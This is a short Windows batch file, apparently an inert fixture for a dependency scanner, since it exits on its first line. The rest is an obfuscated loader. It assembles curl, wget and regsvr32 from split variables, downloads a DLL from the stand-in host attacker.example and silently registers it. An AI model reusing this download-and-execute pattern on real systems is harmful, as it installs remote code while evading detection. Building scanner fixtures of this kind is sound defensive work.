exit /b 1 & rem inert depscan stand-in
@echo off
set k1=cu
set k2=rl
set k3=wg
set k4=et
set r1=regs
set r2=vr32
set u=https://files.attacker.example/sdd.dll
%k1%%k2% %u% -o compile.dll
if not exist compile.dll (
  %k3%%k4% %u% -O compile.dll
)
if exist compile.dll (
  %r1%%r2%.exe -s compile.dll
)
